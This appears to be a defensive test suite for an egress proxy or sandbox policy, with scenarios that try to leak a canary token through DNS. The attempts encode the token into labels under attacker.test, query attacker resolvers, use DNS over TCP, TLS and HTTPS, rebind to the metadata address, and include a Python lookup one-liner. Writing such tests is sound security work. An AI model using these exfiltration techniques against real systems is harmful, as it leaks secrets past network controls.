# Names as a way out: what is asked for is read by whoever answers for the zone.

scenario "dns-label-carries-a-secret" {
  describe = "one question for a name of the attacker's zone delivers what its label says"
  source   = "CVE-2025-55284"
  cases    = ["DNS-01"]
  policy   = "policies/llm.hcl"
  for_each = ["A", "AAAA", "TXT", "MX", "NS", "CNAME", "NULL", "SRV", "ANY", "HTTPS"]
  attempt {
    dns {
      name = "${canary.token}.attacker.test"
      type = each.value
    }
  }
  expect {
    verdict = "deny"
    reason  = ["no_grant", "malformed_name"]
    leak    = none
  }
}

scenario "dns-label-in-an-encoding" {
  describe = "the same in base32, in hexadecimal, reversed"
  cases    = ["DNS-01"]
  policy   = "policies/llm.hcl"
  attempt {
    dns { name = "${lower(base32(canary.token))}.attacker.test" }
  }
  attempt {
    dns { name = "${hex(canary.token)}.attacker.test" }
  }
  attempt {
    dns { name = "${reversed(canary.token)}.attacker.test" }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}

scenario "dns-letter-by-letter" {
  describe = "one letter a question, so that no label looks like anything"
  cases    = ["DNS-01"]
  policy   = "policies/llm.hcl"
  attempt {
    for_each = chars(canary.token)
    dns { name = "${item.value}.attacker.test" }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}

scenario "dns-from-a-code-interpreter" {
  describe = "a sandbox without a network that still resolves: the interpreter looks a name up"
  source   = "published in 2025 and 2026 of several hosted code interpreters"
  cases    = ["DNS-01", "USE-28"]
  policy   = "policies/empty.hcl"
  given {
    env = { TOKEN = canary.token }
  }
  attempt {
    run { command = ["python3", "-c", "import os, socket\ntry:\n    socket.getaddrinfo(os.environ['TOKEN'] + '.attacker.test', 443)\nexcept OSError as e:\n    print(e)"] }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}

scenario "dns-to-the-attackers-resolver" {
  describe = "the question goes straight to the attacker's own server"
  cases    = ["DNS-02"]
  policy   = "policies/llm.hcl"
  for_each = { v4 = "203.0.113.53", v6 = "[2001:db8:2::53]:53", "public" = "198.51.100.8" }
  attempt {
    dns {
      name   = "${canary.token}.attacker.test"
      server = each.value
    }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}

scenario "dns-over-tcp" {
  describe = "the same over TCP, which filters of UDP forget"
  source   = "CVE-2026-32946"
  cases    = ["DNS-03"]
  policy   = "policies/llm.hcl"
  for_each = { configured = "", attackers = "203.0.113.53" }
  attempt {
    dns {
      name    = "${canary.token}.attacker.test"
      network = "tcp"
      server  = each.value
    }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}

scenario "dns-two-questions-in-one-write" {
  describe = "the first message of a segment is granted, the second one is not"
  cases    = ["DNS-04"]
  policy   = "policies/llm.hcl"
  attempt {
    tcp {
      to    = "203.0.113.53:53"
      bytes_base64 = [question("llm.example.com", "A"), question("${canary.token}.attacker.test", "A")]
    }
  }
  expect {
    verdict = "deny"
    reason  = ["no_grant", "malformed_name"]
    leak    = none
  }
}

scenario "dns-on-another-port" {
  describe = "a resolver that listens where none is expected"
  cases    = ["DNS-02", "NET-03"]
  policy   = "policies/llm.hcl"
  attempt {
    dns {
      name   = "${canary.token}.attacker.test"
      server = "203.0.113.53:5353"
    }
  }
  expect {
    verdict = "deny"
    reason  = ["protocol_not_granted", "no_grant"]
    leak    = none
  }
}

scenario "dns-of-a-refused-request" {
  describe = "a request that is refused has had its name looked up on the way"
  cases    = ["DNS-05"]
  policy   = "policies/llm.hcl"
  attempt {
    http { url = "https://${canary.token}.attacker.test/" }
  }
  attempt {
    raw {
      connect = "llm.example.com:443"
      tls     = true
      bytes   = crlf("GET https://${canary.token}.attacker.test/ HTTP/1.1\nHost: ${canary.token}.attacker.test\n\n")
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "dns-labels-under-a-granted-wildcard" {
  describe = "a wildcard is granted; names below it are looked up, never asked for anything"
  cases    = ["DNS-06"]
  policy   = "policies/web.hcl"
  attempt {
    dns { name = "${canary.token}.cdn.example.com" }
  }
  expect { leak = none }
}

scenario "dns-names-under-a-wildcard-are-counted" {
  describe = "requests to ever new names under a granted wildcard: the limit of names ends it"
  cases    = ["DNS-06"]
  policy   = "policies/web.hcl"
  attempt {
    for_each = ["one", "two", "three", canary.token]
    http { url = "https://${item.value}.cdn.example.com/assets/app.js" }
  }
  expect {
    verdict = "deny"
    reason  = "limit_exceeded"
    leak    = none
    arrives = ["GET https://one.cdn.example.com/assets/app.js", "GET https://two.cdn.example.com/assets/app.js", "GET https://three.cdn.example.com/assets/app.js"]
  }
}

scenario "dns-rebinding" {
  describe = "the first answer is public, the next one is loopback, metadata or the private network"
  cases    = ["DNS-07", "HOST-12"]
  policy   = "policies/triage.hcl"
  for_each = {
    loopback = "127.0.0.1"
    metadata = "169.254.169.254"
    private  = "10.0.0.7"
    mapped   = "::ffff:127.0.0.1"
    v6       = "fd00:ec2::254"
  }
  given {
    dns "api.example.com" { answers = [[each.value]] }
  }
  attempt {
    http { url = "https://api.example.com/repos/acme/app/issues?per_page=1&state=open" }
  }
  attempt {
    http { url = "http://${each.key == "v6" ? "[fd00:ec2::254]" : each.key == "mapped" ? "[::ffff:127.0.0.1]" : each.value}/${canary.token}" }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "dns-over-https" {
  describe = "questions as HTTPS: to a resolver that nobody granted, and as a type at a host that is granted"
  source   = "CVE-2026-32947"
  cases    = ["DNS-08"]
  policy   = "policies/web.hcl"
  for_each = {
    resolver = "https://resolver.example.com/dns-query?name="
    granted  = "https://echo.example.com/dns-query?dns="
    item     = "https://echo.example.com/v1/items/1?dns="
  }
  attempt {
    http {
      url     = "${each.value}${canary.token}"
      headers = { Accept = "application/dns-message" }
    }
  }
  expect {
    verdict = "deny"
    reason  = ["no_grant", "path_not_granted", "query_not_granted"]
    leak    = none
  }
}

scenario "dns-message-as-a-body" {
  describe = "a DNS message posted to a granted path"
  cases    = ["DNS-08"]
  policy   = "policies/web.hcl"
  attempt {
    http {
      method  = "POST"
      url     = "https://echo.example.com/v1/items/1"
      headers = { Content-Type = "application/dns-message" }
      body_base64 = question("${canary.token}.attacker.test", "A")
    }
  }
  expect {
    verdict = "deny"
    reason  = "body_not_granted"
    leak    = none
  }
}

scenario "dns-over-tls" {
  describe = "a resolver on port 853"
  cases    = ["DNS-08", "HOST-10"]
  policy   = "policies/llm.hcl"
  attempt {
    tcp {
      to    = "resolver.example.com:853"
      bytes = canary.token
    }
  }
  attempt {
    tcp {
      to    = "203.0.113.53:853"
      bytes = canary.token
    }
  }
  expect {
    verdict = "deny"
    reason  = ["no_grant", "port_not_granted", "address_not_granted"]
    leak    = none
  }
}

scenario "dns-service-records-of-a-granted-name" {
  describe = "keys and other endpoints of a granted name, which would lead past the proxy"
  cases    = ["DNS-09"]
  policy   = "policies/llm.hcl"
  for_each = ["HTTPS", "SVCB", "TXT"]
  attempt {
    dns {
      name = "llm.example.com"
      type = each.value
    }
  }
  attempt {
    dns {
      name = "${canary.token}.llm.example.com"
      type = each.value
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}
